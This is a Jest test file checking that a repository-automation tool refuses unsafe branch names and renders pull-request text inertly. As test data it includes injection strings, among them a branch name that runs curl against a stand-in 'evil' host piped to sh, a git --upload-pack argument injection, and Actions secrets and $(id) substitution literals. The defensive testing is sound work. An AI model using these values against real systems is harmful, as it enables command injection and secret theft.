import { describe, expect, it } from '@jest/globals'
import type { Operation } from '@upkeep/schema'
import { liveMarkup } from '@upkeep/text/neutralise'
import { BRANCH, SLUG, scene } from './scene.fixture.ts'
import { allowedIn } from './slots.ts'

type PullRequest = Extract<Operation, { op: 'pull-request' }>

const BRANCHES = ['x";curl${IFS}evil|sh;"', '--upload-pack=touch pwn', '@{-1}', 'a..b', '../../main', 'main']
const LITERAL = '${{ secrets.X }} $(id) `id`'

describe('names that others chose', () => {
  it.each(BRANCHES)('A10: write nothing as the branch of a publication: %s', async (branch) => {
    await using at = await scene()
    const { result } = await at.run({ operation: (each) => ({ ...each, branch }) })
    expect(result).not.toBe('changed')
    expect(at.fake.writes()).toEqual([])
  })

  it.each(BRANCHES)('A10: are no place to write to as the branches of the event: %s', async (branch) => {
    await using at = await scene()
    if (branch !== 'main') at.fake.repository().setBranch(branch, at.commit)
    const { result } = await at.run({}, { event: { headBranch: branch, baseBranch: branch } })
    const { refs } = at.fake.repository().memory()
    const heads = [...refs.keys()].filter((ref) => ref.startsWith('refs/heads/'))
    expect(heads.toSorted()).toEqual(
      [...new Set(['main', branch, ...(result === 'changed' ? [BRANCH] : [])])]
        .map((name) => `refs/heads/${name}`)
        .toSorted(),
    )
    expect(['main', branch].map((name) => at.fake.repository().branch(name))).toEqual([at.commit, at.commit])
    expect(at.fake.violations()).toEqual([])
  })

  it('A11: stand as letters in the title and the text of a pull request', async () => {
    await using at = await scene()
    const operation = (each: PullRequest): Operation => ({
      ...each,
      title: [{ text: LITERAL, from: 'repository' }],
      body: [
        { text: LITERAL, from: 'repository' },
        { text: `\n${LITERAL}`, from: 'model' },
      ],
    })
    expect(await at.run({ operation })).toMatchObject({ result: 'changed' })
    const [pull] = [...at.fake.repository().memory().issues.values()]
    for (const text of [pull?.title ?? '', pull?.body ?? '']) {
      const shown = text.replaceAll('\\', '').replace(/&#8203;|\u200b/g, '')
      expect(shown).toContain('${{ secrets.X }} $(id)')
      expect(text).not.toMatch(/uid=\d/)
    }
    const allowed = allowedIn(at.fake.url, SLUG)
    const markup = liveMarkup((pull?.body ?? '').split('### Proof')[0] ?? '', { ...allowed, html: [] })
    expect(markup).toEqual([])
    expect(pull?.pull).toMatchObject({ headRef: BRANCH })
  })
})
